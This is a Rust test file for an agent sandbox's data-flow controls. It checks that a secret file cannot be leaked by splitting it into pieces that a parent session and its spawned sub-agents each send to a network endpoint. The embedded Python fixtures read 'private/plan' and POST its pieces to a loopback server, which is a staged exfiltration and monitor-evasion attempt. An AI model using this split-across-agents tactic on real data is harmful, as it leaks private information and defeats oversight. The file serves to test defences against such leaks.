//! A text that a session and its sub-agents let out in pieces, each by its own gate: no more of it leaves than from one cell. Real
//! cells, started by root and by an ordinary user.

use std::sync::{Arc, Mutex};

use crate::whole::loopback::answering;
use crate::whole::{Operator, Ran};
use serde_json::Value;

/// Letters of a labelled text that may leave: one fewer than a run that is told.
const MOST: usize = 47;

const PLAN: &str = "Ardent Kestrel pays ninety four thousand for the orchard beside the river in June, and nobody but the two of us \
                    has heard of it before the board meets on the second Monday of that month.\n";

/// Says so many pieces of the plan, from one on and each so many further, to a server; prints the status of each.
const SAY: &str = r#"
import http.client, sys
at, first, step, last = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
text = open("private/plan").read()
pieces = [text[at:at + 21] for at in range(0, len(text), 21)]
for piece in pieces[first:last:step]:
    asked = http.client.HTTPConnection(*at.split(":"), timeout=60)
    asked.request("POST", "/in", "note: " + piece)
    answer = asked.getresponse()
    answer.read()
    print("piece", answer.status, flush=True)
"#;

/// Begins sub-agents, each of which says a piece, and waits for them.
const FAMILY: &str = r#"
import json, subprocess, sys, urllib.request
at = sys.argv[1]
def ask(verb, what):
    asked = urllib.request.Request("http://bastide.internal/" + verb, json.dumps(what).encode(), {"Content-Type": "application/json"})
    return json.loads(urllib.request.urlopen(asked, timeout=120).read())
def say(first, step, last):
    subprocess.run(["python3", "say.py", at, str(first), str(step), str(last)], check=True)
files = [{"path": path, "access": "read"} for path in ("say.py", "private")]
def child(first, step, last):
    words = ["python3", "say.py", at, str(first), str(step), str(last)]
    ask("spawn", {"task": "say", "command": words, "files": files, "network": [at]})
say(0, 1, 1)
for number, piece in enumerate((1, 2), 1):
    child(piece, 1, piece + 1)
    ask("wait", {"child": number})
say(3, 1, 4)
"#;

/// A server on the host's loopback, and the bodies that came.
fn server() -> (u16, Arc<Mutex<Vec<String>>>) {
    let came = Arc::<Mutex<Vec<String>>>::default();
    let kept = Arc::clone(&came);
    let port = answering(move |said| {
        let body = said.split_once("\r\n\r\n").map_or("", |(_, body)| body);
        kept.lock().expect("kept").push(body.trim_start_matches("note: ").to_owned());
        "ok".into()
    });
    (port, came)
}

fn sessions(operator: &Operator) -> Vec<Value> {
    let ran = operator.bastide(&["ls", "--json"]);
    let all: Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran:?}"));
    all.as_array().cloned().unwrap_or_else(|| panic!("a list: {all}"))
}

fn id(session: &Value) -> &str {
    session["id"].as_str().expect("an id")
}

/// The event of the request that was refused in a session.
fn refused(operator: &Operator, session: &str) -> String {
    let ran = operator.bastide(&["log", session, "--json"]);
    let mut events = ran.stdout.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
    let refused = events.find(|event| event["kind"] == "request" && event["verdict"] == "refused");
    refused.unwrap_or_else(|| panic!("none was refused: {ran:?}"))["id"].as_str().expect("an id").to_owned()
}

#[test]
fn a_text_that_a_tree_says_in_pieces_does_not_leave() {
    for operator in Operator::each() {
        let (port, came) = server();
        let text = format!(
            "bastide: 1\nname: drops\nextends: [hardened]\nagents: {{}}\nnetwork: {{default: deny, allow: [{{to: \"host.bastide:{port}\", protocol: http}}]}}\n\
             data: [{{label: \"secret:clients\", files: [private/**]}}]\nflows: [{{deny: \"secret:*\", to: network}}]\n"
        );
        let policy = operator.write("home/policy.yaml", &text).to_string_lossy().into_owned();
        for (name, text) in [("say.py", SAY), ("family.py", FAMILY), ("private/plan", PLAN)] {
            operator.write(&format!("work/{name}"), text);
        }
        let at = format!("host.bastide:{port}");
        let ran: Ran = operator.run(&["--policy", &policy], &format!("python3 family.py {at}"));
        assert_eq!(ran.exit, 0, "{ran:?}");
        let letters = |text: &str| text.bytes().filter(u8::is_ascii_alphanumeric).count();
        let came = came.lock().expect("kept").clone();
        let left: usize = came.iter().map(|piece| letters(piece)).sum();
        // The first pieces say too little. The third is a sub-agent's, and the fourth its parent's again.
        assert!(came.len() == 2 && left > 0 && left <= MOST, "{left}: {came:?} {ran:?}");

        // Each of the two that were stopped, and why: it goes on with what others said.
        let all = sessions(&operator);
        let (children, parents): (Vec<_>, Vec<_>) = all.iter().partition(|one| one["parent"].is_object());
        let (parent, first) = (id(parents[0]), children.iter().map(|one| id(one)).min().expect("two"));
        let last = children.iter().map(|one| id(one)).max().expect("two");
        assert!(children.len() == 2 && parents.len() == 1, "{all:?}");
        for (stopped, others) in [(last, [parent, first]), (parent, [first, last])] {
            let why = operator.bastide(&["why", &refused(&operator, stopped), stopped]);
            let plain = why.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(plain.contains("drops joined, going on with what was said in"), "{why:?}");
            assert!(others.iter().all(|other| plain.contains(other)), "{why:?}");
        }
        // One account, and nothing of the text in it.
        let state = operator.room.join("state");
        let (accounts, entries) = accounts(&state);
        assert!(accounts == 1 && entries >= 3, "{accounts} {entries}");
        for one in &all {
            let verified = operator.bastide(&["log", "verify", id(one)]);
            assert_eq!(verified.exit, 0, "{verified:?}");
        }
    }
}

/// Accounts of drops below a directory that tell of some, and how many.
fn accounts(directory: &std::path::Path) -> (usize, usize) {
    let (mut accounts, mut entries) = (0, 0);
    for entry in std::fs::read_dir(directory).into_iter().flatten().flatten() {
        let kind = entry.file_type().expect("a kind");
        if kind.is_dir() {
            let (more, told) = self::accounts(&entry.path());
            (accounts, entries) = (accounts + more, entries + told);
        } else if entry.file_name() == wire::DROPS {
            let told = std::fs::read(entry.path()).expect("read");
            let (all, rest) = told.as_chunks::<{ wire::ENTRY }>();
            assert!(rest.is_empty() && all.iter().all(|one| wire::Dropped::decode(one).is_some()));
            accounts += usize::from(!all.is_empty());
            entries += all.len();
        }
    }
    (accounts, entries)
}
